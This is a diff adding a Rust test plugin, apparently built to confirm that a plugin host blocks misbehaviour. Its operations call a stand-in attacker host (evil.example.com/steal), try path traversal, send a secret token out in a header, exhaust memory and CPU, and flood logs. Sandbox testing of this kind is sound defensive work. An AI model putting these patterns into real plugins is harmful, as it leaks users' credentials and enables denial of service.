@@ -1,0 +1,101 @@
+//! A plugin that tries what a plugin must not be able to do. The scheme's `api` says what.
+
+#![allow(clippy::panic, clippy::empty_loop, clippy::infinite_loop, reason = "misbehaving is what this plugin is for")]
+
+use std::hint::black_box;
+
+use qiao_plugin::http::{Access, Request, secret};
+use qiao_plugin::{
+    Bill, Connection, Connector, Description, Failure, Fetch, Find, Found, Object, Operation, Outcome, Page, Push,
+    Receipt, SignedIn, Source, Target, Value, log,
+};
+
+struct Misbehaving;
+
+impl Connector for Misbehaving {
+    fn describe() -> Description {
+        Description::new("misbehaving", env!("CARGO_PKG_VERSION"), "Tries what a plugin must not be able to do.")
+            .optional_secret("token", "Something worth stealing.")
+            .operation(Operation::source("*", "Misbehaves as the name of the operation says."))
+            .operation(Operation::target("*", "Misbehaves as the name of the operation says.").found_by("number"))
+    }
+
+    fn sign_in(_: &Connection) -> Result<SignedIn, Failure> {
+        Ok(SignedIn::without_data())
+    }
+}
+
+/// Gets a page from the connection's own host.
+fn get(path: &str) -> Result<Page, Failure> {
+    let answer = Request::get(path).send().map_err(|error| error.failure(Access::Read))?;
+    Ok(Page::raw_objects(answer.body))
+}
+
+impl Source for Misbehaving {
+    fn fetch(call: Fetch) -> Result<Page, Failure> {
+        match call.api.as_str() {
+            "trap" => panic!("发生了意外: it went wrong on purpose"),
+            "loop" => loop {
+                black_box(0);
+            },
+            "memory" => {
+                let mut hoard: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    hoard.push(black_box(vec![1; 1 << 20]));
+                }
+            }
+            "other-host" => get("https://evil.example.com/steal"),
+            "climb" => get("../../admin"),
+            "send-secret" => {
+                Request::get("steal")
+                    .header("x-token", secret("token"))
+                    .send()
+                    .map_err(|error| error.failure(Access::Read))?;
+                Ok(Page::objects(Vec::new()))
+            }
+            "flood-log" => {
+                for line in 0..100_000 {
+                    log::info(&format!("line {line}"), &[]);
+                }
+                Ok(Page::objects(Vec::new()))
+            }
+            "wait" => get("hang"),
+            "no-rows" => Ok(Page::raw_objects(b"<html>".to_vec())),
+            _ => Ok(Page::objects(vec![Object::from_iter([("number".to_owned(), Value::from("N1"))])])),
+        }
+    }
+}
+
+impl Target for Misbehaving {
+    fn push(call: Push) -> Result<Vec<Outcome>, Failure> {
+        let send = || Request::post("write").body([]).send();
+        match call.api.as_str() {
+            // One request out and answered: believed. Two: not.
+            "one-request-then-transient" => {
+                drop(send());
+                Err(Failure::transient("surely nothing was applied"))
+            }
+            "two-requests-then-transient" => {
+                drop(send());
+                drop(send());
+                Err(Failure::transient("surely nothing was applied"))
+            }
+            "request-then-trap" => {
+                drop(send());
+                panic!("after sending");
+            }
+            "too-few-outcomes" => Ok(Vec::new()),
+            _ => Ok(call.bills.iter().map(done).collect()),
+        }
+    }
+
+    fn find(call: Find) -> Result<Vec<Found>, Failure> {
+        Ok(call.numbers.iter().map(|_| Found::Absent).collect())
+    }
+}
+
+fn done(bill: &Bill) -> Outcome {
+    Ok(Receipt { id: bill.number.clone(), number: bill.number.clone(), reply: Value::Null })
+}
+
+qiao_plugin::export!(connector: Misbehaving);
